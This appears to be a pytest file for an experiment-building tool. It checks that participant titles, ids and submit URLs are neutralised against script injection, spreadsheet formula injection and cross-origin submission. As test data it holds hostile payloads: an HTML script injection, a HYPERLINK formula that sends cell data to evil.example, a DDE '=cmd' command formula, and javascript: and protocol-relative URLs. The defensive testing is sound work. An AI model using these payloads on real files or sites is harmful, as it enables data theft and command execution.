"""Text from people the experimenter does not control: titles, participant ids, URLs, output paths.

Each test failed on the code before the fix (issue 25): a title holding
``<!--<script`` blanked the page, ``{{CONFIG}}`` in a title was replaced by
the page's settings, ids such as ``=HYPERLINK(...)`` went into CSV files as
formulas, ``--submit-url //evil.example/x`` was taken for a path on the
same host, ``extract imgs -o imgs`` wrote among its inputs, and a bad
condition was reported without its config file and line.
"""

from __future__ import annotations

import ast
import json
import re

import numpy as np
import pandas as pd
import pytest

from attneave.analysis.clicks.read import read_clicks
from attneave.cli import main
from attneave.stimuli.tables import neutralise_cell, restore_cell, write_table

from helpers import page_url, read_page_config

HOSTILE_TITLE = "Shapes <!--<script> {{CONFIG}} {{BACKGROUND}} __DISTANCE__ __SETTINGS__"
HOSTILE_TEXT = "Click.</script><script>document.body.innerHTML='pwned'</script> <!-- <script>"
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)", "\tx", "\r=1"]


def _hostile_experiment(stimset, tmp_path, *extra):
    cfg = tmp_path / "exp.yaml"
    cfg.write_text(f"title: {json.dumps(HOSTILE_TITLE)}\ninstructions: {json.dumps(HOSTILE_TEXT)}\n"
                   f"end_text: {json.dumps(HOSTILE_TEXT)}\n")
    out = tmp_path / "exp"
    assert main(["experiment", str(stimset), "-o", str(out), "--config", str(cfg), *extra]) == 0
    return out


# ------------------------------------------------------------------ the page's HTML

def test_embedded_settings_hold_nothing_the_html_tokenizer_acts_on(stimset, tmp_path):
    out = _hostile_experiment(stimset, tmp_path)
    html = (out / "index.html").read_text()
    blob = read_page_config(out)
    # HTML's script-data states react to '<!--', '<script' and '</' only; no '<' at all is safe
    assert "<" not in blob and ">" not in blob
    cfg = json.loads(blob)
    assert (cfg["title"], cfg["instructions"], cfg["end_text"]) == (HOSTILE_TITLE, HOSTILE_TEXT, HOSTILE_TEXT)
    # the page's two scripts: the settings, then task.js
    assert re.findall(r"<script[^>]*>", html) == ['<script type="application/json" id="attneave-config">',
                                                    '<script src="task.js">']


def test_placeholder_names_in_a_title_stay_text(stimset, tmp_path):
    import html as html_lib

    out = _hostile_experiment(stimset, tmp_path, "--psychopy")
    page = (out / "index.html").read_text()
    title = re.search(r"<title>(.*)</title>", page, re.S).group(1)
    assert html_lib.unescape(title) == HOSTILE_TITLE
    assert "{{" not in page.replace(title, "").replace(read_page_config(out), "")  # every placeholder filled
    assert json.loads(read_page_config(out))["title"] == HOSTILE_TITLE
    script = (out / "psychopy" / "attneave_task.py").read_text()
    tree = ast.parse(script)
    values = {t.id: n.value for n in tree.body if isinstance(n, ast.Assign) for t in n.targets
              if isinstance(t, ast.Name)}
    assert ast.literal_eval(values["SETTINGS"])["title"] == HOSTILE_TITLE
    assert ast.literal_eval(values["VIEWING_DISTANCE_CM"]) == 57.0


def test_hostile_title_still_shows_the_first_screen_in_a_browser(browser, stimset, tmp_path):
    out = _hostile_experiment(stimset, tmp_path)
    page = browser.new_page()
    page.goto(page_url(out))
    page.wait_for_selector("#screen:not([hidden])[data-screen=participant]")
    assert HOSTILE_TITLE in page.inner_text("#screen")
    assert page.title() == HOSTILE_TITLE
    assert page.locator("#app").count() == 1  # the hostile text ran no script of its own
    page.close()


# ------------------------------------------------------------------ --submit-url

@pytest.mark.parametrize("url", ["//evil.example/collect", "/\\evil.example/x", "\\\\evil.example/x",
                                 "https:evil.example", "https:///x", "./a//b", "javascript:alert(1)"])
def test_submit_url_to_another_origin_is_refused(stimset, tmp_path, capsys, url):
    out = tmp_path / "exp"
    assert main(["experiment", str(stimset), "-o", str(out), "--submit-url", url]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("attneave experiment: error: --submit-url: "), err
    assert not out.exists()


@pytest.mark.parametrize("url", ["https://lab.example.org/collect?study=3", "http://127.0.0.1:8000/save",
                                 "/collect", "./save.php", "../api/save"])
def test_submit_url_of_this_host_or_an_http_url_is_taken(stimset, tmp_path, url):
    out = tmp_path / "exp"
    assert main(["experiment", str(stimset), "-o", str(out), "--submit-url", url]) == 0
    assert json.loads(read_page_config(out))["submit_url"] == url


# ------------------------------------------------------------------ CSV formula injection

def test_write_table_neutralises_formulas_and_keeps_numbers(tmp_path):
    ids = FORMULAS + ["P01", "-3.5", "", "'=already"]
    frame = pd.DataFrame({"participant": ids, "x": np.linspace(-3.5, 3.5, len(ids)),
                          "=cmd": ["a"] * len(ids)})
    write_table(frame, tmp_path / "f.csv")
    write_table({"participant": ids, "x": list(np.linspace(-3.5, 3.5, len(ids)))}, tmp_path / "m.csv")
    for name in ("f.csv", "m.csv"):
        back = pd.read_csv(tmp_path / name, dtype=str, keep_default_na=False)
        for raw, got in zip(ids, back["participant"]):
            formula = raw[:1] in ("=", "+", "-", "@", "\t", "\r") and raw != "-3.5"
            assert got == ("'" + raw if formula else raw), (name, raw, got)
        assert back["x"].iloc[0] == "-3.5"  # a negative number is a number
        assert [restore_cell(v) for v in back["participant"]] == [
            v if v != "'=already" else "=already" for v in ids]
    assert "'=cmd" in (tmp_path / "f.csv").read_text().splitlines()[0]


def test_neutralise_and_restore_are_inverse():
    for v in FORMULAS + ["P01", "-1e3", "+2", "'x", "'", ""]:
        assert restore_cell(neutralise_cell(v)) == v


def test_analyze_writes_hostile_ids_inert_and_reads_them_back(stimset, tmp_path):
    clicks = tmp_path / "clicks.csv"
    assert main(["simulate", "--stimuli", str(stimset), "-o", str(clicks), "--participants", "4",
                 "--clicks", "3", "--beta", "1", "--seed", "4"]) == 0
    d = pd.read_csv(clicks, dtype=str, keep_default_na=False)
    ids = [f for f in FORMULAS if f == f.strip()]  # analyze strips the spaces around an id
    rename = dict(zip(sorted(d["participant"].unique()), ids))
    d["participant"] = d["participant"].map(rename)
    d["score"] = "-3.5"
    d.to_csv(clicks, index=False)
    out = tmp_path / "an"
    assert main(["analyze", str(clicks), "--stimuli", str(stimset), "-o", str(out), "--no-figures",
                 "--permutations", "10", "--group-simulations", "0", "-n", "32"]) == 0
    for name in ("clicks.csv", "per_participant.csv"):
        cells = pd.read_csv(out / name, dtype=str, keep_default_na=False)["participant"]
        assert set(cells) == {"'" + f for f in ids}, name
    written = pd.read_csv(out / "clicks.csv", dtype=str, keep_default_na=False)
    assert (written["score"] == "-3.5").all()
    # analyze reads its own output (and the page's, PsychoPy's) back to the original ids
    again = read_clicks(out / "clicks.csv")
    assert set(again["participant"]) == set(ids)


def test_page_refuses_an_id_of_another_form_and_writes_formulas_inert(browser, setup):
    page = browser.new_page()
    page.goto(page_url(setup["exp"], participant='=HYPERLINK("http://evil.example")'))
    assert page.get_attribute("#screen", "data-screen") == "error"
    assert "participant id" in page.inner_text("#screen")
    page.goto(page_url(setup["exp"], participant="5f3c9a2b7e1d4c6a8b0f2e4d"))  # a Prolific id
    assert page.get_attribute("#screen", "data-screen") == "instructions"
    csv = page.evaluate("attneave.toCSV([{participant: '@SUM(1)', stimulus_id: '=1+2', x: -3.5}], "
                        "['participant', 'stimulus_id', 'x'])")
    assert csv == "participant,stimulus_id,x\n'@SUM(1),'=1+2,-3.5\n"
    page.close()


def test_page_id_screen_refuses_a_formula(browser, setup):
    page = browser.new_page()
    page.goto(page_url(setup["exp"]))
    page.fill("#participant-input", "=1+2")
    assert page.is_disabled("#next")
    assert "letters, digits" in page.inner_text("#participant-error")
    page.fill("#participant-input", "SONA-1234")
    assert page.is_enabled("#next")
    page.close()


def test_psychopy_data_file_writes_formulas_inert(stimset, tmp_path):
    out = tmp_path / "exp"
    assert main(["experiment", str(stimset), "-o", str(out), "--psychopy"]) == 0
    script = out / "psychopy" / "attneave_task.py"
    namespace = {"__name__": "attneave_task", "__file__": str(script)}
    exec(compile(script.read_text(), str(script), "exec"), namespace)  # PsychoPy is imported by main() only
    rows = [dict.fromkeys(namespace["COLUMNS"], "") | {"participant": "=cmd|' /C calc'!A0", "x": -3.5}]
    path = namespace["save"](rows, str(tmp_path / "data.csv"))
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert back["participant"].iloc[0] == "'=cmd|' /C calc'!A0" and back["x"].iloc[0] == "-3.5"


# ------------------------------------------------------------------ paths and messages

def test_extract_output_in_an_input_directory_is_refused(stimset, tmp_path, capsys):
    import shutil

    imgs = tmp_path / "imgs"
    shutil.copytree(stimset / "images", imgs)
    before = sorted(p.name for p in imgs.iterdir())
    for out in (imgs, imgs / "out"):
        assert main(["extract", str(imgs), "-o", str(out)]) == 2
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and err.startswith(f"attneave extract: error: -o {out}: "), err
        assert "input directory" in err
    assert sorted(p.name for p in imgs.iterdir()) == before


def test_a_bad_condition_names_the_config_file_and_line(stimset, tmp_path, capsys):
    cfg = tmp_path / "exp.yaml"
    cfg.write_text("title: Shapes\n\nconditions: [peaks, nope]\n")
    assert main(["experiment", str(stimset), "-o", str(tmp_path / "exp"), "--config", str(cfg)]) == 2
    err = capsys.readouterr().err
    assert f"{cfg}: line 3: conditions[1]: no stimulus" in err and "'nope'" in err, err
    assert main(["experiment", str(stimset), "-o", str(tmp_path / "exp"), "--conditions", "nope"]) == 2
    assert "--conditions[0]: no stimulus" in capsys.readouterr().err


def test_mixed_model_refusal_spells_the_plural():
    from attneave.analysis.models.choice import standardize
    from attneave.analysis.models.mixed import fit_mixed

    rng = np.random.default_rng(0)
    Z = standardize(rng.gamma(1.0, size=(1, 30)))
    f = fit_mixed(Z, np.zeros(8, int), np.repeat(np.arange(4), 2), rng.integers(0, 30, 8))
    assert "the stimuli's random slopes" in f["note"] and "stimuluss" not in f["note"], f["note"]
